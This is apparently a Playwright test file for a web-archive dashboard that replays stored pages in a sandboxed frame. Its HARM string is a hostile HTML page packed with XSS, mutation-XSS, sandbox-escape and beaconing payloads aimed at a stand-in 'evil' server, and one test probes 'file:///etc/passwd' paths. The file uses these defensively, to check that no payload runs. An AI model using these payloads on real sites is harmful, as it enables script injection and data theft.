"""Stored pages as they looked, in a real Chromium: styled, with a slider over versions, and harmless.

The hostile page tries everything that a page can do to the dashboard that shows it. Each attempt would leave a trace: a
variable in the dashboard's window, a request at the site that means harm, another document in the frame.
"""

from __future__ import annotations

import re
import shutil
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Frame, Page, expect

from recrawl.serve.service import Service, ServiceConfig
from tests.serving import TOKEN, Asker
from tests.test_serve_dashboard import CHROMIUM, LOOKS, browser, tab
from tests.world import Page as Served
from tests.world import Reply, Repo, Site

pytestmark = pytest.mark.skipif(not CHROMIUM, reason="no Chromium: install the package chromium to test replay")
__all__ = ["browser"]


def png(red: int, green: int, blue: int) -> Reply:
    """A picture of one colour, 8 by 8 pixels."""
    raw = b"".join(b"\0" + bytes((red, green, blue)) * 8 for _ in range(8))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    body = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
    return Reply(body, kind="image/png")


def article(words: str, extra: str = "") -> bytes:
    return f"""<!doctype html><html><head><title>Styled</title><link rel=stylesheet href=/css/site.css></head>
<body><h1>Head</h1><p id=words>{words}</p><p>A line that stays.</p>
<img id=red src=/red.png><img id=set srcset="/set.png 1x"><div id=bg></div>{extra}</body></html>""".encode()


def sheet(colour: str) -> Reply:
    words = (
        f"@import 'more.css'; h1 {{ color: {colour} }} #bg {{ width: 8px; height: 8px; background: url(../bg.png) }}"
    )
    return Reply(words.encode(), kind="text/css")


HARM = """<base href="{evil}/base/"><meta http-equiv=refresh content="6;url={evil}/refresh">
<link rel=preconnect href="{evil}"><link rel=prefetch href="{evil}/prefetch"><link rel=stylesheet href="{evil}/x.css">
<script>parent.hacked = 'inline'; document.cookie = 'a=b'; fetch('{evil}/fetch')</script>
<script src="{evil}/x.js"></script>
<body onload="parent.hacked='onload'"><img src="{evil}/pixel.png" onerror="parent.hacked='onerror'">
<style>@import '{evil}/import.css'; body {{ background: url({evil}/css.png) }} @font-face {{ font-family: E;
src: url({evil}/font.woff2) }} p {{ font-family: E }}</style><p style="background: url('{evil}/inline.png')">text</p>
<a id=js href="javascript:parent.hacked='link'">a link</a>
<a id=tab href="java&#9;script:parent.hacked='tab'">tabbed</a>
<a id=top target=_top href="{evil}/top">to the top</a> <a id=out href="{evil}/out">out</a>
<a id=data href="data:text/html,<script>parent.hacked='data'</script>">data</a>
<a id=ping href="#p" ping="{evil}/ping">ping</a>
<svg onload="parent.hacked='svg'"><script>parent.hacked='svg script'</script><image href="{evil}/svg.png"/>
<a xlink:href="javascript:parent.hacked='svg link'"><text y=20>svg</text></a>
<set attributeName=href to="{evil}/set"/></svg>
<form id=form action="{evil}/form" method=post><input name=q value=1><button id=send>send</button>
<button id=send2 formaction="{evil}/formaction">send</button></form>
<iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>top.hacked='srcdoc'</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed">
<video src="{evil}/video" poster="{evil}/poster"></video>
<img src="/evil.svg"><p>the end</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.hacked='mxss'&gt;">
<noscript><p title="</noscript><img src=x onerror=parent.hacked='noscript'>"></noscript>
<template shadowrootmode=open><script>parent.hacked='shadow'</script></template>
<svg><use href="data:image/svg+xml,<svg id='x'><script>parent.hacked=1</script></svg>#x"/></svg>
"""
SVG = Reply(
    b"<svg xmlns='http://www.w3.org/2000/svg'><script>parent.hacked='file'</script></svg>", kind="image/svg+xml"
)


@dataclass
class Shown:
    """A service over a repository with a styled page in three versions and a hostile page."""

    folder: Path
    service: Service
    styled: int
    hostile: int
    evil: Site


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shown]:
    repo = Repo.create(tmp_path_factory.mktemp("replay") / "repo", requisites="all", requisite_hours=1)
    with Site() as evil, Site() as site:
        evil.every = lambda asked: Reply(b"parent.hacked='file'", kind="text/javascript")
        pages: dict[str, Served] = {
            "/": article("First words.", "<a href=/hostile>next</a><a href=/nowhere>no</a>"),
            "/hostile": HARM.format(evil=evil.url("")).encode(),
            "/css/site.css": sheet("rgb(200, 0, 0)"),
            "/css/more.css": Reply(b"p { font-weight: 700 }", kind="text/css"),
            "/red.png": png(255, 0, 0),
            "/set.png": png(0, 255, 0),
            "/bg.png": png(0, 0, 255),
            "/evil.svg": SVG,
        }
        site.pages.update(pages)
        repo.crawl(site.url("/"))
        for words, colour in (("Second words.", "rgb(0, 150, 0)"), ("Third words.", "rgb(0, 0, 200)")):
            repo.later(hours=3)
            site["/"], site["/css/site.css"] = article(words, "<a href=/hostile>next</a>"), sheet(colour)
            repo.cycle()
        numbers = {url: number for number, url in repo.sql("SELECT id, url FROM pages")}
        evil.forget()
        with Service(repo.folder, ServiceConfig(schedule=False)) as service:
            yield Shown(repo.folder, service, numbers[site.url("/")], numbers[site.url("/hostile")], evil)


def framed(tab: Page, place: int = 0) -> Frame:
    """The frame of a stored page, loaded."""
    handle = tab.locator("iframe.replay").nth(place).element_handle()
    assert handle is not None
    frame = handle.content_frame()
    assert frame is not None
    frame.wait_for_load_state("load")
    return frame


@pytest.mark.parametrize("look", ["light", "phone"])
def test_a_stored_page_is_shown_as_it_looked_in_each_of_its_versions(browser: Browser, shown: Shown, look: str) -> None:
    context, watched = tab(browser, shown.service, **LOOKS[look])
    asked: list[str] = []
    watched.page.on("request", lambda request: asked.append(request.url))
    colours = {"1": "rgb(200, 0, 0)", "2": "rgb(0, 150, 0)", "3": "rgb(0, 0, 200)"}
    words = {"1": "First words.", "2": "Second words.", "3": "Third words."}
    here = watched.go(f"/pages/{shown.styled}/look")
    for place in ("3", "1", "2"):
        if place != "3":
            slider = here.get_by_role("slider")
            with here.expect_navigation():
                slider.fill(place)
        expect(here.get_by_role("slider")).to_have_value(place)
        frame = framed(here)
        expect(frame.locator("#words")).to_have_text(words[place])
        assert frame.locator("h1").evaluate("it => getComputedStyle(it).color") == colours[place]
        assert frame.locator("#words").evaluate("it => getComputedStyle(it).fontWeight") == "700"
        for name in ("red", "set"):
            assert frame.locator(f"#{name}").evaluate("it => it.naturalWidth") == 8
        assert "/bg.png" in frame.locator("#bg").evaluate("it => getComputedStyle(it).backgroundImage")
        assert here.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    assert any(url.endswith("/bg.png") for url in asked)
    assert [url for url in asked if not url.startswith(shown.service.url)] == []
    watched.check()
    context.close()


def test_the_slider_works_from_the_keyboard(browser: Browser, shown: Shown) -> None:
    context, watched = tab(browser, shown.service)
    here = watched.go(f"/pages/{shown.styled}/look")
    here.get_by_role("slider").focus()
    with here.expect_navigation():
        here.keyboard.press("ArrowLeft")
    expect(framed(here).locator("#words")).to_have_text("Second words.")
    with here.expect_navigation():
        here.get_by_role("link", name="earlier").click()
    expect(framed(here).locator("#words")).to_have_text("First words.")
    context.close()


def test_without_javascript_the_slider_has_a_button(browser: Browser, shown: Shown) -> None:
    context = browser.new_context(java_script_enabled=False)
    here = context.new_page()
    here.goto(f"{shown.service.url.rstrip('/')}/pages/{shown.styled}/look?place=1")
    expect(here.frame_locator("iframe.replay").locator("#words")).to_have_text("First words.")
    here.get_by_role("button", name="Show").click()
    assert "place=1" in here.url
    context.close()


@pytest.mark.parametrize("look", ["light", "phone"])
def test_the_rendered_difference_stands_beside_the_text(browser: Browser, shown: Shown, look: str) -> None:
    context, watched = tab(browser, shown.service, **LOOKS[look])
    here = watched.go(f"/pages/{shown.styled}/diff?view=looks")
    before, after = framed(here, 0), framed(here, 1)
    for frame, words, kind in ((before, "Second words.", "removed"), (after, "Third words.", "added")):
        marked = frame.locator(f'[data-recrawl-mark="{kind}"]')
        expect(marked).to_have_text([words])
        assert marked.evaluate("it => getComputedStyle(it).outlineStyle") == "solid"
    expect(here.locator("table.diff ins")).to_have_text(["Third"])
    boxes = [here.locator("iframe.replay").nth(place).bounding_box() for place in (0, 1)]
    assert boxes[0] is not None
    assert boxes[1] is not None
    assert (boxes[0]["y"] == boxes[1]["y"]) == (look == "light")
    assert here.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    watched.check()
    context.close()


def test_links_stay_in_the_archive(browser: Browser, shown: Shown) -> None:
    context, watched = tab(browser, shown.service)
    here = watched.go(f"/pages/{shown.styled}/look?place=1")
    frame = framed(here)
    frame.get_by_text("no", exact=True).click()
    expect(here.frame_locator("iframe.replay").locator("body")).to_contain_text("Not in the archive")
    watched.go(f"/pages/{shown.styled}/look?place=1")
    framed(here).get_by_text("next").click()
    expect(here.frame_locator("iframe.replay").locator("body")).to_contain_text("the end")
    context.close()


def settled(where: Page | Frame, expression: str) -> str:
    """The value of an expression, when the navigation that a click may have begun has ended."""
    for _ in range(10):
        try:
            where.wait_for_load_state("networkidle")
            return str(where.evaluate(expression))
        except Error:
            continue
    raise AssertionError("the page does not come to rest")


CLICKS = ("#js", "#tab", "#top", "#out", "#data", "#ping", "#send", "#send2")


@pytest.mark.parametrize("where", ["frame", "tab"])
def test_a_hostile_page_does_nothing(browser: Browser, shown: Shown, where: str) -> None:
    context, watched = tab(browser, shown.service)
    context.add_cookies([{"name": "secret", "value": "1", "url": shown.service.url}])
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    here = watched.go(f"/pages/{shown.hostile}/look")
    address = here.locator("iframe.replay").get_attribute("src") or ""
    for click in ("", *CLICKS):
        here = watched.go(f"/pages/{shown.hostile}/look" if where == "frame" else address)
        frame = framed(here) if where == "frame" else here.main_frame
        expect(frame.locator("body")).to_contain_text("the end")
        if click:
            frame.locator(click).evaluate("it => it.click()")
        assert settled(here, "window.hacked || document.readyState") == "complete", click
        assert here.url.startswith(shown.service.url), click
        assert settled(frame, "self.origin") == "null", click
    for attempt in ("document.cookie", "localStorage.length", "parent.document.title + top.document.title"):
        frame = framed(watched.go(f"/pages/{shown.hostile}/look"))
        refused = frame.evaluate(
            f"() => {{ try {{ return String({attempt}) }} catch (error) {{ return error.name }} }}"
        )
        assert refused == "SecurityError"
    assert [url for url in asked if not url.startswith((shown.service.url, "data:"))] == []
    assert shown.evil.log == []
    context.close()


def test_the_sandbox_alone_holds_what_the_rewriting_misses(
    browser: Browser, shown: Shown, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same page as it came from the web: the policy of the answer must hold it."""
    monkeypatch.setattr("recrawl.repository.replay.inert_page", lambda *_: None)
    context, watched = tab(browser, shown.service)
    here = watched.go(f"/pages/{shown.hostile}/look")
    here.frame_locator("iframe.replay").locator("body").wait_for()
    here.wait_for_load_state("networkidle")
    assert here.evaluate("window.hacked") is None
    assert here.url.startswith(shown.service.url)
    kinds = {re.sub(r"\?.*", "", one.path) for one in shown.evil.log}
    shown.evil.forget()
    assert kinds <= {"/refresh"}, "the policy of the dashboard keeps the frame here, so even this is not loaded"
    assert kinds == set()
    context.close()


def test_the_capability_opens_replay_and_nothing_else(shown: Shown) -> None:
    client = Asker(shown.service)
    found = re.search(r'src="(/replay/[^"]+)"', client.get(f"/pages/{shown.styled}/look").text)
    assert found is not None
    good = found[1]
    answer = client.get(good)
    policy = answer.headers["content-security-policy"]
    assert answer.status == 200
    assert "set-cookie" not in answer.headers
    assert policy.startswith("sandbox; default-src 'none';")
    assert "allow-" not in policy
    assert "script-src" not in policy
    until, mac = good.split("/")[2].split("-")
    for wrong in (f"{until}-{'0' * len(mac)}", f"{int(until) + 1}-{mac}", until, f"x-{mac}", "-"):
        assert client.get(good.replace(f"{until}-{mac}", wrong)).status == 403
    assert client.get(good.replace("/replay/", "/replay/../")).status in (400, 403, 404)
    for version in ("x", "1.both.2", "99999999"):
        assert client.get(re.sub(r"(/replay/[^/]+/)\d+", rf"\g<1>{version}", good)).status == 404
    for other in (shown.service.url, "file:///etc/passwd", "javascript:1", "%00"):
        assert client.get(re.sub(r"(/replay/[^/]+/\d+/).*", rf"\g<1>{other}", good)).status == 404


def test_beyond_loopback_stored_files_need_the_capability_but_no_cookie(shown: Shown, tmp_path: Path) -> None:
    copy = shutil.copytree(shown.folder, tmp_path / "copy", ignore=shutil.ignore_patterns("lock"))
    with Service(copy, ServiceConfig(schedule=False, token=TOKEN)) as guarded:
        assert Asker(guarded).get(f"/pages/{shown.styled}/look").status == 401
        known = Asker(guarded, Authorization=f"Bearer {TOKEN}")
        found = re.search(r'src="(/replay/[^"]+)"', known.get(f"/pages/{shown.styled}/look").text)
        assert found is not None
        assert Asker(guarded).get(found[1]).status == 200
        assert Asker(guarded).get(re.sub(r"/replay/[^/]+/", "/replay/1-2/", found[1])).status == 403
